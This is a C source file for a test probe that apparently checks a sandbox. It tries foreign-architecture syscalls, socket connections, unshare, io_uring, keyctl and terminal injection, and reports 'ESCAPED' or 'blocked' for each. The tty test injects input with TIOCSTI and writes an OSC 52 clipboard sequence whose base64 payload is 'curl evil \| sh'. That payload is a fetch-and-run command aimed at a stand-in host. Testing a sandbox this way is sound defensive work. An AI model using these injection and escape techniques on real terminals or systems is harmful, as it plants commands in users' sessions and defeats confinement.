/* probe: tries one escape and says whether it got through.
 *
 *   probe ARCH OP [ARG]
 *   ARCH: 64 (native x86-64 calls), 32 (i386 calls through int 0x80 from
 *         this 64-bit program), x32 (x32 calls: the x32 bit on x86-64 numbers)
 *   OP:   udp PORT | tcp PORT | mptcp PORT   (to 127.0.0.1)
 *         unix PATH | unix @NAME              (pathname or abstract socket)
 *         unshare | io_uring | keyctl
 *         tty PATH                            (open it; TIOCSTI "echo INJECTED"; write OSC 52)
 *
 * It prints "ESCAPED OP" when the call succeeded and "blocked OP: why"
 * otherwise (a native send: "sent OP", judged by the listener), and
 * exits 0 either way. Built by the tests with the system C
 * compiler; i386 calls need no 32-bit libraries (the pointers they pass
 * live in memory mapped below 4 GiB). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static char *low; /* a page below 4 GiB for i386 pointers */
static const char *arch;

static long call(long nr64, long nr32, long a, long b, long c) {
	long ret;
	if (strcmp(arch, "32") == 0) {
		__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr32), "b"(a), "c"(b), "d"(c) : "memory");
		if (ret < 0 && ret > -4096) { errno = -ret; return -1; }
		return ret;
	}
	if (strcmp(arch, "x32") == 0)
		nr64 |= 0x40000000;
	return syscall(nr64, a, b, c);
}

static int done(const char *op, long r) {
	if (r < 0)
		printf("blocked %s: %s\n", op, strerror(errno));
	else
		printf("ESCAPED %s\n", op);
	return 0;
}

/* A network socket from a foreign architecture is an escape in itself;
 * a native one is judged by the listener (in a network namespace of its
 * own, a send to 127.0.0.1 reaches nobody). */
static int inet(const char *op, int type, int proto, int port) {
	long fd = call(SYS_socket, 359, AF_INET, type, proto);
	if (fd < 0)
		return done(op, fd);
	if (strcmp(arch, "64") != 0)
		printf("ESCAPED %s socket from %s\n", op, arch);
	struct sockaddr_in *sa = (struct sockaddr_in *)low;
	memset(sa, 0, sizeof *sa);
	sa->sin_family = AF_INET;
	sa->sin_port = htons(port);
	sa->sin_addr.s_addr = htonl(0x7f000001);
	long r = call(SYS_connect, 362, fd, (long)sa, sizeof *sa);
	if (r == 0 && type == SOCK_DGRAM) {
		memcpy(low + 512, "polly-udp", 9);
		r = call(SYS_write, 4, fd, (long)(low + 512), 9);
	}
	if (r < 0)
		printf("blocked %s: %s\n", op, strerror(errno));
	else
		printf("sent %s (the listener tells whether it arrived)\n", op);
	return 0;
}

int main(int argc, char **argv) {
	if (argc < 3) {
		fprintf(stderr, "usage: probe 64|32|x32 OP [ARG]\n");
		return 2;
	}
	arch = argv[1];
	const char *op = argv[2];
	const char *arg = argc > 3 ? argv[3] : "";
	low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (low == MAP_FAILED) {
		perror("mmap");
		return 2;
	}
	if (strcmp(op, "udp") == 0)
		return inet(op, SOCK_DGRAM, 0, atoi(arg));
	if (strcmp(op, "tcp") == 0)
		return inet(op, SOCK_STREAM, 0, atoi(arg));
	if (strcmp(op, "mptcp") == 0)
		return inet(op, SOCK_STREAM, 262 /* IPPROTO_MPTCP */, atoi(arg));
	if (strcmp(op, "unix") == 0) {
		long fd = call(SYS_socket, 359, AF_UNIX, SOCK_STREAM, 0);
		if (fd < 0)
			return done(op, fd);
		struct sockaddr_un *sa = (struct sockaddr_un *)low;
		memset(sa, 0, sizeof *sa);
		sa->sun_family = AF_UNIX;
		socklen_t len = sizeof sa->sun_family + strlen(arg);
		strncpy(sa->sun_path, arg, sizeof sa->sun_path - 1);
		if (arg[0] == '@')
			sa->sun_path[0] = 0;
		return done(op, call(SYS_connect, 362, fd, (long)sa, len));
	}
	if (strcmp(op, "unshare") == 0)
		return done(op, call(SYS_unshare, 310, 0x10000000 /* CLONE_NEWUSER */, 0, 0));
	if (strcmp(op, "io_uring") == 0)
		return done(op, call(SYS_io_uring_setup, 425, 8, (long)memset(low, 0, 120), 0));
	if (strcmp(op, "keyctl") == 0)
		return done(op, call(SYS_keyctl, 288, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, 0, 0));
	if (strcmp(op, "tty") == 0) {
		int fd = open(arg, O_RDWR | O_NOCTTY);
		if (fd < 0)
			return done("tty-open", -1);
		if (!isatty(fd)) {
			printf("blocked tty-open: %s is not a terminal\n", arg);
			return 0;
		}
		printf("ESCAPED tty-open %s\n", arg);
		const char *s = "echo INJECTED\n";
		long r = 0;
		for (const char *p = s; *p && r == 0; p++)
			r = ioctl(fd, TIOCSTI, p);
		done("tiocsti", r);
		const char *osc = "\033]52;c;Y3VybCBldmlsIHwgc2gK\007";
		return done("osc52-write", write(fd, osc, strlen(osc)));
	}
	fprintf(stderr, "unknown op %s\n", op);
	return 2;
}
